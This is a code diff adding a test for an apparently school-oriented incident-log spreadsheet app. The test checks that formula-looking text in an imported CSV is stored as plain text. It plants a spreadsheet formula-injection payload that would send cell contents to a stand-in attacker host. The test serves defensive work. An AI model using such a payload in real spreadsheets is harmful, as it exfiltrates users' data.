@@ -161,3 +161,22 @@ describe('item 3: SLM_ATTAINMENT, SLM_AVAILABILITY and the sidebar leave out and
     }), { numRuns: 12, seed: 9 });
   });
 });
+
+describe('item 5: user text reaches cells as text, never as a formula', () => {
+  test('formula-looking text imported into the log stays text, even with the cells\' text format reset', () => {
+    const rt = school();
+    const log = (rt.spreadsheet as unknown as Ss).getSheetByName('Incidents')!;
+    // A format reset (or rows past the ones setup formatted): only the writer keeps the text a text.
+    log.getRange(2, 1, log.getMaxRows() - 1, log.getMaxColumns()).setNumberFormat('General');
+    const attack = '=IMPORTDATA("https://attacker.example/?"&A1)';
+    const csv = require('node:fs').readFileSync(`${__dirname}/../import/samples/osticket.csv`, 'utf8') as string;
+    const text = csv.replace('Staffroom printer jams on every job', `"${attack.replace(/"/g, '""')}"`).replace('Cannot send email with attachments, says ""quota""', '+44 7700 900123 @ reception');
+    expect(text).toContain('attacker.example');
+    rt.global.importIncidents(text, null);
+    const values = log.getDataRange();
+    expect(values.getFormulas().flat().filter((f: string) => f !== '')).toEqual([]);
+    const summaries = values.getValues().map((r: unknown[]) => r[values.getValues()[0].indexOf('Summary')]);
+    expect(summaries).toContain(attack);
+    expect(summaries).toContain('+44 7700 900123 @ reception');
+  });
+});
